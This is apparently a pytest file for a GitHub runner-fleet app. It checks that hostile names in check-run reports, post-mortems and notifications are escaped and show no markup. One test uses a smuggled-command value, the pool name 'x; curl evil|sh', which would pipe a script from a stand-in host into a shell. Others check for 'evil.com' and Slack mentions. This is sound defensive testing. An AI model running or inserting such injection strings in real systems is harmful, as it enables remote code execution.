"""Names of outsiders in check runs and notifications: nothing of them is active when it is parsed."""

from __future__ import annotations

import re
from types import SimpleNamespace

import pytest

from ghapp.deaths.cluster_summary import StaleNamespace
from ghapp.deaths.job_outcome import JobOutcome, run_again_as
from ghapp.deaths.job_story import job_story
from ghapp.deaths.patterns import DeathPattern, PatternKind, death_summary
from ghapp.deaths.rerun import Rerun, RerunState
from ghapp.deaths.texts import post_mortem_report
from ghapp.gate.active_shard import Role
from ghapp.gate.gate_checks import GateCheck, GateCheckStage
from ghapp.gate.judgement import Gate
from ghapp.gate.next_steps import NextStep
from ghapp.gate.shard_checks import Check
from ghapp.gate.texts import gate_report, superseded_report
from ghapp.installations.pool_matching import pool_of
from ghapp.leaks.reaper_status import ReaperStatus
from ghapp.leaks.tick import Guard
from ghapp.notifications.conditions import Change, Topic
from ghapp.notifications.texts import message
from ghapp.pods.degraded_sources import DegradedSource
from ghapp.report.fleet_report import report_on
from ghapp.report.markdown import code
from ghapp.workflow_jobs.demand import PoolDemand, UnservedJob
from ghapp.workflow_jobs.queue_check import FollowedJob, QueueCheck
from ghapp.workflow_jobs.reason import QueueReason
from ghapp.workflow_jobs.texts import queue_report
from tests.report.fleets import fleet_of
from tests.rules.builders import NOW, proving, survey
from tests.rules.workflow_jobs.builders import busy, missing, queue
from tests.rules.workflow_jobs.builders import job as waiting_job
from tests.support import nasty_fleet
from tests.support.nasty_names import GFM, NASTY, PLAIN, markdown_faults, not_seen, tags

GITHUB = "https://github.com/"


def fleet_report(names):
    numbered = list(enumerate(names))
    pools = [pool_of((), (name,), ()) for name in names]
    pauses = {pool: fleet_pause(name) for pool, name in zip(pools, names, strict=True)}
    demand = [PoolDemand(name, 1, 1, 1, 1, 0, NOW) for name in names]
    return report_on(
        fleet_of(
            *(nasty_fleet.evidence(number, name, NOW) for number, name in numbered),
            org=names[0],
            survey=survey(failing_since=NOW - 400, failure=names[1]),
            fuses={pool: proving(by=name) for pool, name in zip(pools, names, strict=True)},
            pauses=pauses,
            org_pause=pauses[pools[2]],
            phantoms=[nasty_fleet.phantom(name) for name in names],
            deaths=[death_summary(nasty_fleet.death(number, name, NOW)) for number, name in numbered],
            death_patterns=[
                DeathPattern(kind, name, 3, NOW, alone=False) for kind in PatternKind for name in names[:9]
            ],
            unseen=[StaleNamespace(name, None) for name in names],
            degraded_sources=[DegradedSource("pods", name) for name in names],
            leaks=ReaperStatus(
                kept={Guard.UNNAMED.value: 1},
                examples={Guard.UNNAMED.value: ((names[3], NOW),)},
                stops={name: (name, name) for name in names},
            ),
            demand=demand,
            unserved=[
                UnservedJob(nasty_fleet.job(number, name, NOW), QueueReason.NO_RUNNER_WITH_LABELS, name)
                for number, name in numbered
            ],
        ),
        NOW,
    )


def fleet_pause(name):
    return SimpleNamespace(who=name, why=name, at=NOW, until=None)


def post_mortem(names, *, private=True):
    (name,) = names
    death = nasty_fleet.death(1, name, NOW)
    rerun = Rerun(1, 7, 1, name, NOW, RerunState.REFUSED, name)
    job = nasty_fleet.job(1, name, NOW)._replace(
        status="over", started_at=NOW, ended_at=NOW, runner_name=name, conclusion=name
    )
    again = job._replace(id=2, attempt=2, run_id=7)
    outcome = JobOutcome(death, rerun, None, (again,))
    story = job_story(job, name, None, outcome, NOW)
    latest = run_again_as(job, outcome, NOW)
    return post_mortem_report(death, death.job, is_private=private, story=story, has_button=True, again=latest)


def queued(names):
    """Jobs that wait for labels that no runner has, and one of a pool that a person has paused."""
    pauses = {name: fleet_pause(name) for name in names}
    jobs = [nasty_fleet.job(number, name, NOW)._replace(private=True) for number, name in enumerate(names)]
    runners = [busy(), *(missing(pool=name, labels=("self-hosted", f"{name}-of-another-kind")) for name in names[::2])]
    followed = [FollowedJob(each.id, each.queued_at, each.name, each.html_url) for each in jobs]
    return queue_report(QueueCheck(f"acme/{names[0]}", "f" * 40, tuple(followed)), queue(jobs, runners, pauses=pauses))


def gate(names):
    checks = tuple(Check("online", number % 2 == 0, name) for number, name in enumerate(names))
    steps = tuple(NextStep(name, name) for name in names)
    result = Gate(names[0], names[1], Role.INACTIVE, checks, steps, NOW)
    return gate_report(result, GateCheck("0" * 40, NOW, names[2], NOW), GateCheckStage.FAILED)


REPORTS = {"the fleet": fleet_report, "the queue": queued, "the gate": gate}


def rows(text):
    return sum(token.type == "tr_open" for token in GFM.parse(text))


@pytest.mark.parametrize("report", REPORTS.values(), ids=REPORTS)
def test_a_check_run_of_forty_names_has_as_many_rows_and_no_markup_of_theirs(report):
    plain, nasty = report(PLAIN[:-1]), report(NASTY[:-1])
    for text in (nasty.summary, nasty.text):
        assert markdown_faults(text, ours=GITHUB) == []
    assert [rows(text) for text in (nasty.summary, nasty.text)] == [rows(text) for text in (plain.summary, plain.text)]
    assert "\n" not in nasty.title
    assert not_seen(nasty.title, "") == {}


@pytest.mark.parametrize("name", NASTY, ids=range(len(NASTY)))
def test_a_post_mortem_has_no_markup_of_a_name(name):
    report, plain = post_mortem([name]), post_mortem(["linux-1"])
    for text in (report.summary, report.text):
        assert markdown_faults(text, ours=GITHUB) == []
    assert rows(report.text) == rows(plain.text)
    assert [each.type for each in GFM.parse(report.text)] == [each.type for each in GFM.parse(plain.text)]
    assert report.title == plain.title
    superseded = superseded_report(name, name, name)
    assert markdown_faults(superseded.summary, ours=GITHUB) == []
    assert not_seen(superseded.title, "") == {}


def test_the_command_of_a_step_is_one_command_whatever_the_pool_is_called():
    name = "x; curl evil|sh"
    jobs = [waiting_job(labels=("self-hosted", name), private=True, head_sha="f" * 40)]
    lost = missing(pool=name, labels=("self-hosted", name))
    followed = QueueCheck("acme/api", "f" * 40, (FollowedJob(1, NOW),))
    summary = queue_report(followed, queue(jobs, [lost], pauses={name: fleet_pause("mona")})).summary
    assert code("ghapp resume acme --pool 'x; curl evil|sh'", 800) in summary


CHANGES = {
    "a fuse that trips": (Topic.FUSE, "proving"),
    "a fuse that stops": (Topic.FUSE, "stopped"),
    "a fuse that closes": (Topic.FUSE, ""),
    "no list": (Topic.BLIND, "open"),
    "jobs that wait": (Topic.UNSERVED, "open"),
    "no more of them": (Topic.UNSERVED, ""),
    "a gate that fails": (Topic.GATE, "open"),
    "and fails no longer": (Topic.GATE, ""),
    "a version that ends soon": (Topic.VERSION, "notice"),
    "a version that has ended": (Topic.VERSION, "action"),
    "and does no longer": (Topic.VERSION, ""),
}


@pytest.mark.parametrize(("topic", "level"), CHANGES.values(), ids=CHANGES)
def test_a_notification_is_text_to_whatever_reads_it(topic, level):
    for name in NASTY:
        found = message(name, Change(topic, f"{name}/{name}", level, "", NOW, NOW, 3, name))
        assert not_seen(found.title, "") == not_seen(found.body) == {}
        assert "\n" not in found.title
        for line in (found.title, *found.body.splitlines()):
            assert not {*line} & {*"@<>|\\*~#&"}
            assert not tags(line)
            assert not re.search(r"://|www\.|evil\.", line)
            (_, inline, _) = GFM.parse(line)
            assert {each.type for each in inline.children} <= {"text", "code_inline"}
            assert all(each.content.startswith("ghapp ") for each in inline.children if each.type == "code_inline")
        assert len(found.title) < 400


def test_a_command_that_a_receiver_could_take_for_markup_is_not_shown():
    stopped = Change(Topic.FUSE, "linux", "stopped", "", NOW, NOW, 3, "MassLoss")
    assert "run `ghapp resume acme --pool linux`." in message("acme", stopped).body
    assert "run `ghapp resume acme --pool 'a b'`." in message("acme", stopped._replace(subject="a b")).body
    for name in ("<!channel>", "evil.com", "a`b"):
        body = message("acme", stopped._replace(subject=name)).body
        assert "run the command that `ghapp doctor` prints." in body
